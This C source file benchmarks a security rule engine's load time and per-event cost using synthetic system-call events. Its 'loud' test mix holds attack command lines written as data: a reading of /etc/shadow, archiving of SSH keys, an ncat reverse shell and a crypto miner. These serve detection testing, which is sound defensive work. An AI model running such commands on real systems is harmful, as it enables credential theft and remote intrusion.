/* SPDX-License-Identifier: Apache-2.0 */
/*
 * bench_filter RULES… : how long those rule files take to load, and the
 * nanoseconds an event costs, all their rules switched on: over a mix of
 * events in memory that matches nothing, and over one that does, each with
 * matching `first` and `all`.  Fields cost next to nothing here: what is
 * measured is the engine, in this thread's processor time.
 */
#define VESTIGE_LIVE		/* a bench looks at the clock */
#include "lib/base/compat.h"

#include "analyze/filter/filter.h"
#include "analyze/rule/engine.h"
#include "analyze/rule/ruleset.h"
#include "analyze/rule/select.h"
#include "lib/base/io.h"

#define EVENTS	2000000
#define LOADS	9

struct fake {
	struct fieldsource src;		/* first */
	const struct value *values;	/* by field */
	const uint8_t *present;
	uint64_t gets;
};

struct kind {
	uint16_t evtype;
	unsigned weight;	/* of 100 */
	const char *fd_name, *typechar, *proc_name, *cmdline;
};

/* Shares as on an ordinary server: mostly input and output; nothing matches. */
static const struct kind quiet[] = {
	{ EV_SYSCALL_READ_X, 26, "/var/lib/app/data.db", "f", "postgres", "postgres -D /data" },
	{ EV_SYSCALL_WRITE_X, 16, "/var/log/app.log", "f", "nginx", "nginx: worker" },
	{ EV_SYSCALL_CLOSE_X, 14, "/etc/hosts", "f", "node", "node server.js" },
	{ EV_SYSCALL_OPENAT_2_X, 12, "/usr/lib/x86_64-linux-gnu/libc.so.6", "f", "bash", "bash -c x" },
	{ EV_SYSCALL_OPENAT_2_X, 3, "/etc/passwd", "f", "sshd", "sshd: user" },
	{ EV_SYSCALL_FUTEX_X, 8, NULL, NULL, "java", "java -jar app.jar" },
	{ EV_SYSCALL_EPOLLWAIT_X, 6, NULL, NULL, "nginx", "nginx: worker" },
	{ EV_SYSCALL_MMAP_X, 5, "/usr/lib/libm.so", "f", "cron", "cron -f" },
	{ EV_SOCKET_CONNECT_X, 2, "10.0.0.5:40000->10.0.0.6:443", "4", "curl", "curl https://x" },
	{ EV_SOCKET_RECVFROM_X, 3, "10.0.0.5:40000->10.0.0.6:443", "4", "node", "node server.js" },
	{ EV_SOCKET_SENDTO_X, 3, "10.0.0.5:40000->10.0.0.6:53", "4", "dnsmasq", "dnsmasq -k" },
	{ EV_SYSCALL_EXECVE_19_X, 1, NULL, NULL, "ls", "ls -l /tmp" },
	{ EV_SYSCALL_CLONE_20_X, 1, NULL, NULL, "bash", "bash -c x" },
};

/* The same server under attack: every event here is one that rules name, and
 * most of them make alerts. */
static const struct kind loud[] = {
	{ EV_SYSCALL_OPENAT_2_X, 30, "/etc/shadow", "f", "cat", "cat /etc/shadow" },
	{ EV_SYSCALL_OPENAT_2_X, 10, "/root/.ssh/id_rsa", "f", "tar", "tar c /root/.ssh" },
	{ EV_SYSCALL_OPENAT_2_X, 20, "/usr/lib/x86_64-linux-gnu/libc.so.6", "f", "bash", "bash -c x" },
	{ EV_SYSCALL_EXECVE_19_X, 10, NULL, NULL, "ncat", "ncat -e /bin/sh 10.0.0.6 443" },
	{ EV_SYSCALL_EXECVE_19_X, 10, NULL, NULL, "grep", "grep -r id_rsa /home" },
	{ EV_SYSCALL_EXECVE_19_X, 10, NULL, NULL, "xmrig", "xmrig -o stratum+tcp://10.0.0.6:443" },
	{ EV_SOCKET_CONNECT_X, 10, "10.0.0.5:40000->10.0.0.6:443", "4", "ncat", "ncat 10.0.0.6 443" },
};

#define KINDS_MAX	16

static bool fake_get(struct fieldsource *s, const struct fieldref *ref,
		     enum field_place place UNUSED, struct value *out)
{
	struct fake *f = (struct fake *)s;

	f->gets++;
	if (!f->present[ref->f->id])
		return false;
	*out = f->values[ref->f->id];
	return true;
}

static struct value text(const char *s)
{
	return (struct value){ .ptype = PT_CHARBUF, .s = str_of(s) };
}

/* Every field has some value; those that decide much have a likely one. */
static void fill(const struct kind *k, bool in_container, struct value *v, uint8_t *present)
{
	unsigned i;

	for (i = 0; i < FIELD_COUNT; i++) {
		const struct fieldinfo *f = &fieldtab[i];

		v[i] = (struct value){ .ptype = f->ptype, .pfmt = f->pfmt };
		present[i] = !f->list && f->ptype != PT_DYN;
		if (f->ptype == PT_CHARBUF)
			v[i].s = STR("some-text");
	}
	v[FIELD_PROC_NAME] = text(k->proc_name);
	v[FIELD_PROC_CMDLINE] = text(k->cmdline);
	v[FIELD_PROC_PNAME] = text(in_container ? "java" : "systemd");
	v[FIELD_EVT_NUM].u = 7;
	v[FIELD_PROC_EXE] = text(k->proc_name);
	v[FIELD_PROC_ARGS] = text(strchr(k->cmdline, ' ') ? strchr(k->cmdline, ' ') + 1 : "");
	v[FIELD_CONTAINER_ID] = text(in_container ? "3ad7b26ded6d" : "host");
	v[FIELD_USER_NAME] = text("root");
	v[FIELD_EVT_DIR] = text("<");
	v[FIELD_EVT_TYPE] = text(evtab[k->evtype].name);
	v[FIELD_EVT_IS_OPEN_READ].u = 1;
	v[FIELD_FD_NUM].i = 5;
	v[FIELD_FD_NAME] = text(k->fd_name ? k->fd_name : "");
	v[FIELD_FD_TYPECHAR] = text(k->typechar ? k->typechar : "");
	present[FIELD_FD_NAME] = present[FIELD_FD_TYPECHAR] = k->fd_name != NULL;
}

static uint64_t now(void)
{
	struct timespec ts;

	/* What this thread used: the machine may be busy. */
	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
}

struct mix {
	const char *name;
	const struct kind *kinds;
	size_t n;
	bool in_container;
};

static const struct mix mixes[] = {
	{ "quiet mix", quiet, ARRAY_SIZE(quiet), false },
	{ "loud mix", loud, ARRAY_SIZE(loud), true },
};

/* The mix over and over, through the engine that analyze has. */
static void run(struct ruleset *rs, const struct mix *mix, enum matching matching)
{
	static struct value values[KINDS_MAX][FIELD_COUNT];
	static uint8_t present[KINDS_MAX][FIELD_COUNT];
	struct fake f = { .src = { .get = fake_get } };
	uint64_t start, matches = 0, hits = 0, n;
	struct engine e;
	uint8_t schedule[100];
	unsigned i, j, k, nsched = 0;

	for (i = 0; i < mix->n; i++) {
		fill(&mix->kinds[i], mix->in_container, values[i], present[i]);
		for (j = 0; j < mix->kinds[i].weight && nsched < 100; j++)
			schedule[nsched++] = (uint8_t)i;
	}
	engine_init(&e, rs, matching, STR("syscall"));
	start = now();
	for (i = 0; i < EVENTS; i++) {
		k = schedule[i * 37u % nsched];
		f.src.evtype = mix->kinds[k].evtype;
		f.values = values[k];
		f.present = present[k];
		n = engine_event(&e, &f.src);
		matches += n;
		hits += n > 0;
	}
	printf("%-9s matching %-5s %6.1f ns per event; %.2f conditions, %.2f fields, "
	       "%.2f alerts an event; %.0f %% of the events match\n", mix->name,
	       matching == MATCH_ALL ? "all" : "first", (double)(now() - start) / EVENTS,
	       (double)e.evals / EVENTS, (double)f.gets / EVENTS, (double)matches / EVENTS,
	       100.0 * (double)hits / EVENTS);
	engine_release(&e);
}

static int load(struct ruleset *rs, const char *path)
{
	struct buf text = BUF_INIT;
	int err = io_read_file(path, 64u << 20, &text, NULL);

	if (!err)
		err = ruleset_load(rs, path, buf_str(&text));
	buf_release(&text);
	return err;
}

/* The files again and again: what loading costs, at best. */
static void bench_load(int argc, char **argv)
{
	const struct ruleset_opts opts = { .suggested_output = true };
	struct filterset_stats st;
	uint64_t start, best = UINT64_MAX, took;
	struct ruleset *rs;
	int i, k;

	for (k = 0; k < LOADS; k++) {
		start = now();
		rs = ruleset_new(&opts);
		for (i = 1; i < argc; i++)
			load(rs, argv[i]);
		took = now() - start;
		best = took < best ? took : best;
		st = filterset_stats(rs->fs);
		if (k == LOADS - 1)
			printf("load: %zu rules of %d files in %.1f ms of processor time (best of "
			       "%d); %zu checks written, %zu distinct sub-conditions compiled, "
			       "%zu fields\n", rs->n, argc - 1, (double)best / 1e6,
			       LOADS, st.checks_written, st.checks_distinct, st.fields);
		ruleset_free(rs);
	}
}

int main(int argc, char **argv)
{
	const struct ruleset_opts opts = { .suggested_output = true };
	const struct select_step every = { .enable = true, .text = "*" };
	struct ruleset *rs = ruleset_new(&opts);
	int i, err = 0;
	unsigned m;

	for (i = 1; i < argc; i++)
		err |= load(rs, argv[i]);
	if (err || argc < 2 || !rs->fs) {
		fprintf(stderr, "usage: bench_filter RULES…\n");
		return 2;
	}
	bench_load(argc, argv);
	ruleset_select(rs, &every, 1, PRI_DEBUG, NULL);
	for (m = 0; m < ARRAY_SIZE(mixes); m++) {
		run(rs, &mixes[m], MATCH_FIRST);
		run(rs, &mixes[m], MATCH_ALL);
	}
	ruleset_free(rs);
	return 0;
}
